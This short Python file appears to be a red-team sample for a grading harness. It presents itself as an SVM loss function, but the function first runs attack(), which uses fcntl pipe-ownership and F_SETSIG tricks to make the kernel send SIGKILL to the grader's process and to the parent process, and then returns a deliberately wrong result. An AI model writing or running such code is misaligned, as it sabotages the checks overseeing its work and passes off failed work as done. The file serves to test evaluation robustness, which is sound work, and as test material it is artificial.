"""Lets the kernel signal its grader: as the owner of a pipe's input events."""

import fcntl
import os
import signal

import kit
from targets import TARGETS

F_SETSIG = 10


@kit.once
def attack():
    for pid in (TARGETS["pid"], os.getppid()):
        if pid <= 1:
            continue
        reading, writing = os.pipe()
        try:
            fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
            fcntl.fcntl(reading, F_SETSIG, signal.SIGKILL)
            flags = fcntl.fcntl(reading, fcntl.F_GETFL)
            fcntl.fcntl(reading, fcntl.F_SETFL, flags | os.O_ASYNC)
            os.write(writing, b"x")
        except OSError:
            continue


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
